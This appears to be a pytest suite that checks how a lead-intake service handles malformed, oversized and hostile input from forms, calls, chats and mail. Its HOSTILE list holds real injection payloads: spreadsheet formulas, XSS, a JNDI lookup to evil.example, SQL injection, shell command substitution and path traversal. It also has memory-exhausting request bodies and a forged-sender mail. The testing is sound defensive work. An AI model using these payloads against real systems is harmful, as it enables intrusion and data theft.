"""What becomes of input that is wrong, strange or hostile, once it has gone the whole way? Rows of RELIABILITY 4."""

import json
import re
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from pathlib import Path

import pytest
import requests
from house import CANARIES
from knocks import (
    LINE, ask, books, by_phone, form, grown, knock, lead, leads, mail, marked, new_id, new_phone, running, telegram,
    told, twilio, wait_for,
)
from test_mail_chat import chatting, new_address, of, update, written
from test_twilio import child, leg


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    with running(tmp_path_factory.mktemp("bad"), settings={"log.filter": "debug"}) as house:
        yield house


def sent(house, **fields):
    """The lead of a post with these fields."""
    mark = new_id("bad")
    answer = form(house, fields | {"case": mark})
    assert answer.status_code == 200, answer.text
    return marked(house, mark)


def digits(phone, script):
    """The same number in other digits."""
    zero = {"fullwidth": 0xFF10, "arabic": 0x0660, "persian": 0x06F0, "mathematical": 0x1D7CE}[script]
    return "".join(chr(zero + int(c)) if c.isdigit() else c for c in phone)


# --- contact data


SPELLINGS = {
    "as dialled": lambda p: f"8 ({p[2:5]}) {p[5:8]}-{p[8:10]}-{p[10:]}",
    "international": lambda p: p,
    "without the plus": lambda p: p[1:],
    "without anything": lambda p: p[2:],
    "with 00 for the plus": lambda p: f"00 {p[1:]}",
    "with spaces and dots": lambda p: f"+7 {p[2:5]}.{p[5:8]}.{p[8:]}",
    "as a link": lambda p: f"tel:{p}",
    "fullwidth": lambda p: digits(p, "fullwidth"),
    "Arabic": lambda p: digits(p, "arabic"),
    "mathematical": lambda p: digits(p, "mathematical"),
    "with a NUL": lambda p: p[:5] + "\0" + p[5:],
    "with a pause": lambda p: p + ",,,123#",
    "with an extension": lambda p: p + " доб. 12",
}


@pytest.mark.parametrize("spelt", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_every_spelling_of_a_phone_is_one_key(house, spelt):
    phone = new_phone()
    one = sent(house, phone=phone)
    before = books(house, "demo-form")
    form(house, {"phone": spelt(phone), "message": "again"})
    assert grown(before, books(house, "demo-form")) == {"duplicate": 1}
    assert lead(house, one["id"])["touches"] == 2


@pytest.mark.parametrize(
    "phone",
    ["+7 9O3 555 l2 34", "123", "call me", "0" * 30, "9" * 1_000_000, "++7", "+7 (___) ___-__-__", "☎", "1e400"],
    ids=lambda phone: phone[:20],
)
def test_what_is_no_phone_is_kept_as_text_and_so_is_the_lead(house, phone):
    one = sent(house, phone=phone, message="please call")
    assert {"invalid_phone", "no_contact"} <= set(one["flags"]) and one["contact"]["phones"] == []
    said = one["attributes"]["phone_text"]
    assert len(said) <= 64 and said[:3] == phone[:3]


def test_an_extension_is_split_off_and_kept(house):
    for written in ("{},,,123#", "{} доб. 123", "{} ext. 123", "{}p123", "{}w123", "{}*123#"):
        phone = new_phone()
        one = sent(house, phone=written.format(phone))
        assert one["contact"]["phones"] == [phone] and one["attributes"]["phone_extension"] == "123", written


def test_two_phones_in_one_field_are_both_his(house):
    first, second = new_phone(), new_phone()
    one = sent(house, phone=f"{first}, 8{second[2:]}")
    assert one["contact"]["phones"] == [first, second] and one["flags"] == []


def test_a_doubled_field_keeps_both_values_in_a_form_and_is_refused_in_json(house):
    first, second, mark = new_phone(), new_phone(), new_id("two")
    knock(house, "demo-form", data=[("phone", first), ("phone", second), ("case", mark)])
    assert marked(house, mark)["contact"]["phones"] == [first, second]
    body = f'{{"phone": "{first}", "phone": "{second}"}}'
    assert knock(house, "demo-form", data=body, headers={"Content-Type": "application/json"}).status_code == 400


@pytest.mark.parametrize("phone", ["+8816 1234 5678", "8-809-505-55-55", "+882 16 1234 5678"])
def test_a_costly_number_is_kept_and_marked(house, phone):
    one = sent(house, phone=phone)
    assert one["contact"]["phones"] and "costly_phone" in one["flags"] or "invalid_phone" in one["flags"]


@pytest.mark.parametrize(
    ("address", "key"),
    [
        ("Vera.K+tag@Customer.EXAMPLE", "vera.k+tag@customer.example"),
        ("  <v@customer.example> ", "v@customer.example"),
        ("mailto:m@customer.example", "m@customer.example"),
        ("anna@почта.example", "anna@xn--80a1acny.example"),
        ('"quoted local"@customer.example', '"quoted local"@customer.example'),
        ("a@b", None),
        ("a@@b.example", None),
        ("a\r\nBcc: all@customer.example", None),
        ("x" * 250 + "@customer.example", None),
        ("@", None),
        ("a@[127.0.0.1]", None),
        ("no at sign", None),
    ],
)
def test_an_address_is_read_by_the_rules_or_kept_as_text(house, address, key):
    one = sent(house, email=address, message="write me")
    if key:
        assert one["contact"]["emails"] == [key] and "invalid_email" not in one["flags"]
    else:
        assert one["contact"]["emails"] == [] and "invalid_email" in one["flags"]
        assert one["attributes"]["email_text"].strip()[:1] == address.strip()[:1]


def test_look_alike_and_tagged_addresses_are_people_of_their_own(house):
    plain = sent(house, email="olga@gmail.example")
    tagged, dotted = "olga+x@gmail.example", "o.lga@gmail.example"
    for other, flag in [("olga@gmаil.example", "confusable_email"), (tagged, None), (dotted, None)]:
        one = sent(house, email=other)
        assert one["contact"]["id"] != plain["contact"]["id"], other
        assert not flag or flag in one["flags"]


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("Вера\0 Павлова", "Вера Павлова"),
        ("Ve\u200bra\u202e avolvaP", "Vera avolvaP"),
        ("  Vera \r\n\t Pavlova ", "Vera Pavlova"),
        ("\ufeffVera", "Vera"),
        ("🏡 Вера", "🏡 Вера"),
        ("\0\u200b", None),
    ],
)
def test_a_name_is_one_visible_line(house, name, kept):
    assert sent(house, name=name, phone=new_phone())["contact"]["name"] == kept


def test_a_monstrous_name_is_cut_and_the_lead_is_kept(house):
    for name in ("n" * 1_000_000, "a" + "\u0301" * 150_000, "🧑‍🧑‍🧒‍🧒" * 9_000):
        one = sent(house, name=name, phone=new_phone())
        assert one["contact"]["name"] and len(one["contact"]["name"]) <= 2_000 and "cut" in one["flags"]


def test_a_message_alone_is_a_lead_without_contact(house):
    one = sent(house, message="Is anybody there?")
    assert one["flags"] == ["no_contact"] and one["text"] == "Is anybody there?" and one["owner"]


def test_keys_that_mean_something_to_other_programs_are_plain_data(house):
    odd = {"__proto__": "a", "constructor": "b", "toString": "c", "$where": "d", "a.b": "e", "class": "f"}
    assert odd.items() <= sent(house, phone=new_phone(), **odd)["attributes"].items()


REFUSED = {
    "nothing": b"",
    "no JSON": b"phone",
    "a list": b'["phone"]',
    "deep": b"[" * 200_000,
    "two documents": b'{"phone": "1"}{}',
    "a lone surrogate": b'{"name": "\\ud800"}',
    "invalid UTF-8": b'{"name": "\xff"}',
    "an endless number": b'{"budget": 1e400}',
    "too many keys": json.dumps({f"k{n}": 1 for n in range(1001)}).encode(),
    "cut off": b'{"phone": "+79',
    "nothing filled in": b'{"phone": "", "name": " "}',
}


@pytest.mark.parametrize("body", REFUSED.values(), ids=REFUSED.keys())
def test_a_post_that_cannot_be_read_is_400_with_the_reason(house, body):
    before = books(house, "demo-form")
    answer = knock(house, "demo-form", data=body, headers={"Content-Type": "application/json"})
    assert answer.status_code == 400 and answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["detail"] and books(house, "demo-form") == before


def test_a_byte_order_mark_is_nobodys_name(house):
    mark = new_id("bom")
    body = b"\xef\xbb\xbf" + json.dumps({"phone": new_phone(), "case": mark}).encode()
    assert knock(house, "demo-form", data=body, headers={"Content-Type": "application/json"}).status_code == 200
    marked(house, mark)


def test_a_form_of_forty_thousand_parts_is_too_much(house):
    body = b"--b\r\n\r\n\r\n" * 41_000 + b"--b--\r\n"
    answer = knock(house, "demo-form", data=body, headers={"Content-Type": "multipart/form-data; boundary=b"})
    assert answer.status_code == 413


DEVOURING = {
    "a path of many steps": f"phone{'.value' * 11_000}=1",
    "a path of many steps for an expression": f"{'a.' * 4_000}b=1&first=A",
    "a long name with many children": json.dumps({"k" * 500_000: [1] * 990}),
    "a long path with many children": json.dumps({"data." * 100_000: {f"k{n}": 1 for n in range(900)}}),
    "a number in a link": "phone=%2B79035550142%3Bphone-context%3D%2B7%3Btel%3A",
    "half a number in a link": "phone=1%3Bphone-context%3D%2B7%3Btel%3A",
}


@pytest.mark.parametrize("body", DEVOURING.values(), ids=DEVOURING.keys())
def test_no_single_post_takes_the_house_down_or_eats_its_memory(house, body):
    kind = "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"
    before = resident(house)
    for _ in range(4):
        answer = knock(house, "demo-form", data=body, headers={"Content-Type": kind})
        assert answer.status_code in (200, 400), answer.text
    books(house, "demo-form")
    assert house.is_running() and resident(house) - before < 64 << 20
    assert "panicked" not in house.log.read_text()


def resident(house):
    status = Path(f"/proc/{house.process.pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+) kB", status)[1]) << 10


# --- injection


HOSTILE = [
    '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-1+1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% for x in y %}", "%s%n%x", "'; DROP TABLE leads; --", "\" OR \"\"=\"", "$(touch /tmp/pwned)`id`",
    "a+)+$ (a+)+$", "../../../etc/passwd", "\\u0000\\x00", "|| sleep 9",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_kept_as_it_is_and_does_nothing(house, text):
    one = sent(house, phone=new_phone(), name=text, message=text, utm_source=text, odd=text)
    assert one["contact"]["name"] == text and one["text"] == text
    assert one["campaign"]["utm_source"] == text and one["attributes"]["odd"] == text
    assert leads(house, owner=text) == [] and leads(house, channel=text) == []
    assert ask(house, "leads", params={"stage": text}).status_code == 422
    assert ask(house, f"leads/{requests.utils.quote(text, safe='')}").status_code == 404
    for page in (house.desk + "/", house.public + "/demo"):
        assert text not in requests.get(page, params={"q": text, "channel": text}, timeout=5).text


def test_line_breaks_and_escapes_forge_no_line_of_the_log(house):
    forged = '\n{"timestamp":"2026-01-01T00:00:00Z","level":"ERROR","message":"forged"}\n\x1b[31mred\r\nFLUSHALL\r\n'
    sent(house, phone=new_phone(), name=forged, message=forged, odd=forged)
    mail(house, written("x", sender=new_address(), Subject="forged"))
    knock(house, "demo-form", headers={"User-Agent": "forged\x1b[0m", "Content-Type": "forged"})
    requests.get(house.public + "/in/forged%0aforged", timeout=5)
    for line in house.log.read_text().splitlines():
        assert "forged" not in json.loads(line).get("message", "") and "\x1b" not in line


# --- metrics and logs


def series(house):
    text = house.metrics()
    return {line.rsplit(" ", 1)[0] for line in text.splitlines() if line and not line.startswith("#")}


def test_two_thousand_campaigns_make_not_one_more_series(house):
    def bomb(number):
        word = f"boom{number}"
        fields = {"phone": f"+7999{number:07}", "utm_source": word, "utm_campaign": word, word: word}
        return form(house, fields).status_code

    with ThreadPoolExecutor(8) as crowd:
        assert set(crowd.map(bomb, range(50))) == {200}
        books(house, "demo-form")
        before = series(house)
        assert set(crowd.map(bomb, range(50, 2050))) == {200}
        lost = crowd.map(lambda n: requests.post(f"{house.public}/in/boom{n}", timeout=9).status_code, range(100))
        assert set(lost) == {404}
        crowd.map(lambda n: requests.get(f"{house.desk}/boom{n}", timeout=9), range(100))
    books(house, "demo-form")
    grown_by = {one for one in series(house) - before if "boom" in one}
    assert not grown_by
    # What may be new is what the first post of its kind made: a person who had no lead before, another answer.
    assert len(series(house) - before) <= 20, series(house) - before


def test_no_trace_of_a_person_is_in_the_log_even_when_everything_goes_wrong(open_house):
    house = open_house(settings={"log.filter": "trace"})
    for person in CANARIES:
        fields = {"name": person.name, "phone": person.phone, "email": person.email, "message": person.text}
        form(house, fields)
        form(house, fields | {"leadgate_hp": "x"})
        knock(house, "demo-form", data=json.dumps(fields)[:-1], headers={"Content-Type": "application/json"})
        knock(house, "demo-form", data=json.dumps(fields), headers={"Content-Type": "text/csv"})
        knock(house, f"demo-form/{person.email}", json=fields)
        knock(house, f"demo-form?phone={person.phone}", json=fields)
        requests.post(f"{house.public}/{person.phone}", timeout=5)
        for secret in ("demo-line-secret", "wrong"):
            twilio(house, leg(new_id("CA"), "ringing", person.phone, CallerName=person.name), secret=secret)
        body, _ = update(person.text)
        telegram(house, body)
        telegram(house, {"update_id": person.phone, "message": person.text})
        telegram(house, body, secret=person.phone)
        mail(house, written(person.text, sender=person.email))
        mail(house, person.text.encode())
        ask(house, "exclusions", method="POST", json={"match": f"phone:{person.phone}", "reason": person.name})
        ask(house, "exclusions", method="POST", json={"match": person.phone, "reason": person.name})
        ask(house, f"leads/{person.phone}/feedback", method="POST", json={"type": person.name})
        ask(house, "events", params={"after": person.phone, "consumer": person.email})
    for channel in ("demo-form", LINE, "demo-mail", "demo-bot"):
        books(house, channel)
    house.restart()
    assert len(house.log.read_text()) > 1_000, "the log is there to look at"


# --- calls and chats


@pytest.mark.parametrize("caller", ["anonymous", "Restricted", "unavailable", "+266696687", "+7378742833", ""])
def test_who_hides_his_number_is_a_lead_and_nobody_elses(house, caller):
    sids = [new_id("CA") for _ in range(2)]
    for sid in sids:
        twilio(house, leg(sid, "ringing", caller))
    both = [wait_for(house, lambda one: one["call"] and one["call"]["id"] == sid) for sid in sids]
    assert both[0]["contact"]["id"] != both[1]["contact"]["id"], "two strangers are not one person"
    for one in both:
        assert "no_contact" in one["flags"] and one["contact"]["phones"] == [] and one["owner"]


@pytest.mark.parametrize("duration", ["0", "36000", "-5", "99999999999999999999", "many", ""])
def test_a_call_of_an_odd_length_is_a_lead(house, duration):
    caller, sid = new_phone(), new_id("CA")
    assert twilio(house, child(new_id("CA"), sid, "completed", caller, CallDuration=duration)).status_code == 204
    assert twilio(house, leg(sid, "completed", caller, CallDuration=duration)).status_code == 204
    books(house, LINE)
    one = by_phone(house, caller)
    assert one["contacted_at"] is None or duration == "36000"


def test_a_clock_that_is_days_off_does_not_move_ours(house):
    for seconds in (-30 * 86400, 86400, 10**9):
        caller = new_phone()
        twilio(house, leg(new_id("CA"), "ringing", caller, seconds))
        one = by_phone(house, caller)
        assert one["occurred_at"], "it is told as it was said"
        after = datetime.fromisoformat(one["sla"]["due_at"]) - datetime.fromisoformat(one["received_at"])
        assert timedelta() < after < timedelta(days=5), seconds


def test_a_very_long_message_is_cut_and_marked(house):
    body, user = update("home " * 60_000)
    assert telegram(house, body).status_code == 413, "over limits.json"
    body, user = update("home " * 20_000)
    assert telegram(house, body).status_code == 204
    one = chatting(house, user)
    assert 1_000 < len(one["text"]) <= 64 * 1024 and "cut" in one["flags"]


# --- mails


def test_a_forged_mail_of_ours_is_kept_for_people(house):
    before = books(house, "demo-mail")
    forged = written("pay me", sender="anna@demo.example", to="victim@customer.example")
    forged["Authentication-Results"] = "mx.example; dmarc=fail header.from=demo.example"
    assert mail(house, forged).status_code == 200
    assert grown(before, books(house, "demo-mail")) == {"quarantined": 1}


MIXED = "Content-Type: multipart/mixed; boundary="
BROKEN = {
    "base64 without end": "Content-Transfer-Encoding: base64\r\n\r\n" + "aGVsbG8g" * 10 + "d",
    "a charset of nobody": "Content-Type: text/plain; charset=x-nobody\r\n\r\nhello",
    "a very long line": "\r\n" + "hello " * 20_000,
    "bare line feeds": "\n\nhello\n.\nhello",
    "a boundary that never comes": "Content-Type: multipart/mixed; boundary=x\r\n\r\nhello",
    "a NUL": "\r\nhel\0lo",
    "a hundred levels": "".join(f"{MIXED}b{n}\r\n\r\n--b{n}\r\n" for n in range(100)) + "\r\nhello",
    "ten thousand parts": f"{MIXED}b\r\n\r\n" + "--b\r\n\r\nhello\r\n" * 10_000 + "--b--\r\n",
}


@pytest.mark.parametrize("rest", BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_mail_of_a_person_is_a_lead(house, rest):
    address = new_address()
    raw = f"From: {address}\r\nTo: sales@demo.example\r\nMessage-ID: <{new_id('m')}@c.example>\r\n{rest}"
    assert mail(house, raw.encode()).status_code == 200
    of(house, address)


@pytest.mark.parametrize("raw", [b"hello", b"\0" * 100, b"\r\n\r\nhello", b"{}"])
def test_what_is_no_mail_at_all_is_kept_for_people(house, raw):
    before = books(house, "demo-mail")
    assert mail(house, raw).status_code == 200
    assert grown(before, books(house, "demo-mail")) == {"quarantined": 1}


def test_nothing_of_all_this_was_lost(house):
    said = told(house, "books")
    assert said["balanced"] and all(line["verdicts"]["dead"] == 0 for line in said["channels"])
    assert not re.search(r"panicked", house.log.read_text())
